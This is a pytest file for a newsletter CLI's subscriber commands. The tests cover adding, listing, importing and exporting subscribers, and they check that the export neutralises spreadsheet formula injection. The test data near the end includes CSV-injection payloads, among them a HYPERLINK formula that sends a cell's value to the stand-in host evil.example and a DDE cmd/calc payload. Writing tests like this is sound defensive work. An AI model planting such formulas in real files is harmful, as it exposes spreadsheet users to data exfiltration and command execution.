"""``syndicate subscribers ...`` end to end: the real CLI on a real ledger file."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from syndicate.cli import cli
from syndicate.ledger import Ledger


@pytest.fixture
def run(project):
    project.write_config(channels=[])  # subscribers need the ledger only
    runner = CliRunner()

    def invoke(*args: str, input: str | None = None):
        return runner.invoke(cli, ["--config", str(project.config_path), *args], input=input)

    return invoke


def _emails(project, status: str | None = None) -> list[str]:
    with Ledger(project.config().database) as ledger:
        return [s.email for s in ledger.iter_subscribers(status)]


def test_add_list_remove(run, project) -> None:
    result = run("subscribers", "add", "  Zoé.Martin@Exemple.FR ", "--name", "Zoé Martin")
    assert result.exit_code == 0, result.output
    assert "added Zoé.Martin@exemple.fr" in result.output  # domain normalised, local part kept
    again = run("subscribers", "add", "zoé.martin@exemple.fr")
    assert again.exit_code == 1
    assert "already a subscriber (active)" in again.output
    bad = run("subscribers", "add", "not-an-address")
    assert bad.exit_code == 1
    assert "invalid email address" in bad.output

    assert run("subscribers", "add", "b@exemple.fr").exit_code == 0
    listed = run("subscribers", "list", "--json")
    assert listed.exit_code == 0
    rows = json.loads(listed.stdout)
    assert [(r["email"], r["name"], r["status"]) for r in rows] == [
        ("Zoé.Martin@exemple.fr", "Zoé Martin", "active"),
        ("b@exemple.fr", None, "active"),
    ]
    text = run("subscribers", "list")
    assert "Zoé.Martin@exemple.fr  [active]  Zoé Martin" in text.stdout

    with Ledger(project.config().database) as ledger:
        ledger.set_subscriber_status("b@exemple.fr", "unsubscribed")
    only = json.loads(run("subscribers", "list", "--status", "unsubscribed", "--json").stdout)
    assert [r["email"] for r in only] == ["b@exemple.fr"]
    assert json.loads(run("subscribers", "list", "--status", "bounced", "--json").stdout) == []

    removed = run("subscribers", "remove", "B@EXEMPLE.FR")
    assert removed.exit_code == 0, removed.output
    assert _emails(project) == ["Zoé.Martin@exemple.fr"]
    missing = run("subscribers", "remove", "b@exemple.fr")
    assert missing.exit_code == 1
    assert "not a subscriber" in missing.output


def test_import_reports_with_line_numbers(run, project, tmp_path: Path) -> None:
    assert run("subscribers", "add", "deja@exemple.fr").exit_code == 0
    csv_file = tmp_path / "abonnés.csv"
    csv_file.write_text(
        "\ufeffName,Email\n"                      # BOM and header order/case from a spreadsheet
        "Anne,anne@exemple.fr\n"                  # 2 added
        "Bruno,pas-une-adresse\n"                 # 3 invalid
        "\n"                                      # 4 blank: ignored
        "Déjà,DEJA@exemple.fr\n"                  # 5 already present
        "\"Claire, la DRH\",claire@exemple.fr\n"  # 6 added (quoted comma)
        "Vide,\n"                                 # 7 invalid (empty)
        "\"Dan\nsur deux lignes\",dan@exemple.fr\n"  # 8-9 added (multi-line field)
        "Eve,eve@@exemple.fr\n",                  # 10 invalid
        encoding="utf-8",
    )
    result = run("subscribers", "import", str(csv_file))
    assert result.exit_code == 0, result.output
    assert f"{csv_file}: 3 added, 1 already present, 3 invalid" in result.output
    lines = [ln.strip() for ln in result.output.splitlines()[1:]]
    assert [ln.split(": ")[0] for ln in lines] == [f"{csv_file}:3", f"{csv_file}:7",
                                                  f"{csv_file}:10"]
    assert "pas-une-adresse" in lines[0] and "(empty)" in lines[1] and "eve@@" in lines[2]
    assert _emails(project) == ["deja@exemple.fr", "anne@exemple.fr", "claire@exemple.fr",
                                "dan@exemple.fr"]
    rows = json.loads(run("subscribers", "list", "--json").stdout)
    assert {r["email"]: r["name"] for r in rows}["claire@exemple.fr"] == "Claire, la DRH"
    assert {r["source"] for r in rows[1:]} == {"import"}

    # Importing the same file again adds nobody.
    again = run("subscribers", "import", str(csv_file))
    assert "0 added, 4 already present, 3 invalid" in again.output


def test_semicolon_csv_from_a_french_spreadsheet(run, project, tmp_path: Path) -> None:
    csv_file = tmp_path / "liste.csv"
    csv_file.write_text("email;name\nx@exemple.fr;Xavier Dupont, fils\n", encoding="utf-8")
    result = run("subscribers", "import", str(csv_file))
    assert result.exit_code == 0, result.output
    rows = json.loads(run("subscribers", "list", "--json").stdout)
    assert [(r["email"], r["name"]) for r in rows] == [("x@exemple.fr", "Xavier Dupont, fils")]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"name,address\nAnne,anne@exemple.fr\n", "no 'email' column"),
        (b"", "empty file"),
        (b"email,name\nanne@exemple.fr,Anne\n\xff\xfe\x00\x01", "binary"),
        (b"email,name\nanne@exemple.fr,Ann\xe9\n", "not UTF-8"),
        (b'email,name\nanne@exemple.fr,"Anne\nbruno@exemple.fr,Bruno\n', "not valid CSV"),
    ],
)
def test_unreadable_file_imports_nothing(run, project, tmp_path: Path, content: bytes,
                                         message: str) -> None:
    csv_file = tmp_path / "bad.csv"
    csv_file.write_bytes(content)
    result = run("subscribers", "import", str(csv_file))
    assert result.exit_code != 0
    assert message in result.output
    assert _emails(project, None) == []


def test_import_missing_file(run, project, tmp_path: Path) -> None:
    result = run("subscribers", "import", str(tmp_path / "nope.csv"))
    assert result.exit_code != 0
    assert _emails(project, None) == []


def test_export_round_trips(run, project, tmp_path: Path) -> None:
    assert run("subscribers", "add", "a@exemple.fr", "--name", "Anne « la » Dupont").exit_code == 0
    assert run("subscribers", "add", "b@exemple.fr").exit_code == 0
    exported = run("subscribers", "export")
    assert exported.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [(r["email"], r["name"], r["status"]) for r in rows] == [
        ("a@exemple.fr", "Anne « la » Dupont", "active"), ("b@exemple.fr", "", "active")]
    # The export is a valid import file for another ledger.
    path = tmp_path / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    with Ledger(project.config().database) as ledger:
        ledger.remove_subscriber("a@exemple.fr")
    result = run("subscribers", "import", str(path))
    assert "1 added, 1 already present, 0 invalid" in result.output


# Values a spreadsheet would run as formulas (OWASP CSV injection), as the public
# subscribe form or an operator could store them.
_FORMULA_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A2,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=déjà cité",
    "''+deux",
    "Anne-Marie = Dupont",  # harmless: only the first character matters
]


def test_export_neutralizes_formulas_and_import_restores_them(run, project, tmp_path) -> None:
    with Ledger(project.config().database) as ledger:
        for number, name in enumerate(_FORMULA_NAMES):
            ledger.add_subscriber(f"p{number}@exemple.fr", name=name, status="active")
        ledger.add_subscriber("=cmd@exemple.fr", name="\tTab", status="active")
    exported = run("subscribers", "export")
    assert exported.exit_code == 0, exported.output
    cells = [cell for row in csv.reader(io.StringIO(exported.stdout)) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in "=+-@\t\r"]
    assert dangerous == []  # no cell a spreadsheet would evaluate
    assert "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Cliquez\")" in cells
    assert "''=déjà cité" in cells  # already quoted: one more quote, so import is exact
    assert "Anne-Marie = Dupont" in cells  # untouched

    # Importing the export into an empty ledger gives back the original values.
    path = tmp_path / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    project.write_config(storage={"database": "../var/other.db"}, channels=[])
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 0, result.output
    assert "8 added, 0 already present, 0 invalid" in result.output
    with Ledger(project.config().database) as ledger:
        names = {s.email: s.name for s in ledger.iter_subscribers(None)}
    assert names == {
        **{f"p{number}@exemple.fr": name for number, name in enumerate(_FORMULA_NAMES)},
        "=cmd@exemple.fr": "Tab",  # import strips surrounding white space, as before
    }
